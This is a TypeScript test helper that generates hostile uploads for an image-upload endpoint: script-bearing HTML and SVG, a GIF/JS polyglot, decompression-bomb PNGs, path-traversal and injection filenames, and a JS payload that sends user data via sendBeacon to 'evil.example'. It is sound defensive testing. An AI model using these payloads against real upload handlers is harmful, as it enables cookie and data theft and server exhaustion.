/** A corpus of hostile uploads, generated in memory (no fixtures on disk). */
import zlib from 'node:zlib';
import sharp from 'sharp';
import { jpegWithGps, pngBuffer } from './images';

export interface HostileFile {
  label: string;
  name: string;
  data: Buffer;
  type: string;
  /** `refuse`: 400 and nothing stored; `neutralise`: accepted, re-encoded, markers gone. */
  expect: 'refuse' | 'neutralise';
  /** Byte strings that must not survive into any stored file. */
  markers?: string[];
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}
const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A hand-made grayscale PNG claiming width × height pixels whose IDAT holds `rows` rows of zeros,
 * deflated (a 20,000 × 20,000 header with a few KB of data: a decompression bomb's shape).
 */
export function bombPng(width: number, height: number, rows = 64): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // grayscale
  const raw = Buffer.alloc((width + 1) * Math.min(rows, height));
  return Buffer.concat([PNG_SIG, chunk('IHDR', ihdr), chunk('IDAT', zlib.deflateSync(raw, { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
}

/** A valid PNG with a tEXt chunk carrying `text` (inserted before IEND). */
function pngWithText(png: Buffer, key: string, text: string): Buffer {
  const iend = png.length - 12;
  return Buffer.concat([png.subarray(0, iend), chunk('tEXt', Buffer.from(`${key}\0${text}`, 'latin1')), png.subarray(iend)]);
}

const HTML = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><rect width="10" height="10"/></svg>';
const JS = 'alert(document.domain);fetch("/api/current_user_data/").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))';
const ZIP = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from('evil.html<script>alert(1)</script>', 'latin1')]);

export async function hostileCorpus(): Promise<HostileFile[]> {
  const png = await pngBuffer(40, 30);
  const jpeg = await sharp({ create: { width: 40, height: 30, channels: 3, background: { r: 9, g: 99, b: 199 } } }).jpeg().toBuffer();
  const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 1, g: 2, b: 3 } } }).gif().toBuffer();
  const webp = await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 1, g: 2, b: 3 } } }).webp().toBuffer();
  const tiff = await sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 1, g: 2, b: 3 } } }).tiff().toBuffer();
  const gps = await jpegWithGps();
  const b = (s: string) => Buffer.from(s, 'latin1');
  return [
    { label: 'HTML renamed .jpg', name: 'slika.jpg', data: b(HTML), type: 'image/jpeg', expect: 'refuse' },
    { label: 'SVG with script renamed .png', name: 'slika.png', data: b(SVG), type: 'image/png', expect: 'refuse' },
    { label: 'SVG as itself', name: 'crtez.svg', data: b(SVG), type: 'image/svg+xml', expect: 'refuse' },
    { label: 'JavaScript renamed .gif', name: 'anim.gif', data: b(JS), type: 'image/gif', expect: 'refuse' },
    { label: 'GIF header + JS (GIFAR-style polyglot)', name: 'poly.gif', data: b(`GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;${JS}`), type: 'image/gif', expect: 'refuse' },
    { label: 'PNG signature + HTML', name: 'poly.png', data: Buffer.concat([PNG_SIG, b(HTML)]), type: 'image/png', expect: 'refuse' },
    { label: 'PDF renamed .jpg', name: 'dokument.jpg', data: b('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n/JS (app.alert(1))\n%%EOF'), type: 'image/jpeg', expect: 'refuse' },
    { label: 'TIFF (a real image, not an accepted kind)', name: 'scan.tif', data: tiff, type: 'image/tiff', expect: 'refuse' },
    { label: '0-byte file', name: 'prazno.jpg', data: Buffer.alloc(0), type: 'image/jpeg', expect: 'refuse' },
    { label: 'truncated JPEG', name: 'pola.jpg', data: jpeg.subarray(0, Math.floor(jpeg.length / 2)), type: 'image/jpeg', expect: 'refuse' },
    { label: 'truncated PNG', name: 'pola.png', data: png.subarray(0, 40), type: 'image/png', expect: 'refuse' },
    { label: 'oversize (6 MB + 1 byte)', name: 'veliko.png', data: Buffer.concat([png, Buffer.alloc(6 * 1024 * 1024 + 1 - png.length, 7)]), type: 'image/png', expect: 'refuse' },
    { label: '20,000 × 20,000 pixel bomb (hand-made PNG)', name: 'bomba.png', data: bombPng(20_000, 20_000), type: 'image/png', expect: 'refuse' },
    { label: '65,535 × 65,535 header', name: 'bomba2.png', data: bombPng(65_535, 65_535, 4), type: 'image/png', expect: 'refuse' },
    { label: 'JPEG + appended HTML', name: 'foto.jpg', data: Buffer.concat([jpeg, b(HTML)]), type: 'image/jpeg', expect: 'neutralise', markers: ['<script', 'alert('] },
    { label: 'JPEG + appended zip', name: 'foto2.jpg', data: Buffer.concat([jpeg, ZIP]), type: 'image/jpeg', expect: 'neutralise', markers: ['PK\x03\x04', 'evil.html'] },
    { label: 'valid GIF + appended JS', name: 'mala.gif', data: Buffer.concat([gif, b(`;${JS}`)]), type: 'image/gif', expect: 'neutralise', markers: ['alert(', 'sendBeacon'] },
    { label: 'PNG with <script> in a tEXt chunk', name: 'tekst.png', data: pngWithText(png, 'Comment', HTML), type: 'image/png', expect: 'neutralise', markers: ['<script', 'Comment'] },
    { label: 'JPEG with EXIF GPS', name: 'gps.jpg', data: gps, type: 'image/jpeg', expect: 'neutralise', markers: ['TestCam', 'Leaky', 'Exif'] },
    { label: '../ in the name', name: '../../../../../../tmp/aukcije-evil.png', data: png, type: 'image/png', expect: 'neutralise' },
    { label: '..\\ in the name', name: '..\\..\\..\\aukcije-evil2.png', data: png, type: 'image/png', expect: 'neutralise' },
    // busboy refuses a NUL in a part header: the whole form answers 400 bad_form.
    { label: 'NUL in the name', name: 'slika.png\u0000.html', data: png, type: 'image/png', expect: 'refuse' },
    { label: 'HTML in the name', name: '<img src=x onerror=alert(1)>.png', data: png, type: 'image/png', expect: 'neutralise' },
    { label: 'PNG declared as image/svg+xml', name: 'x.svg', data: png, type: 'image/svg+xml', expect: 'neutralise' },
    { label: 'WebP named .exe, declared as HTML', name: 'program.exe', data: webp, type: 'text/html', expect: 'neutralise' },
    { label: '10,000-character name', name: `${'a'.repeat(10_000)}.png`, data: png, type: 'image/png', expect: 'neutralise' },
    { label: 'HTML in the name of a refused file', name: '<script>alert(1)</script>.jpg', data: b(HTML), type: 'image/jpeg', expect: 'refuse' },
  ];
}
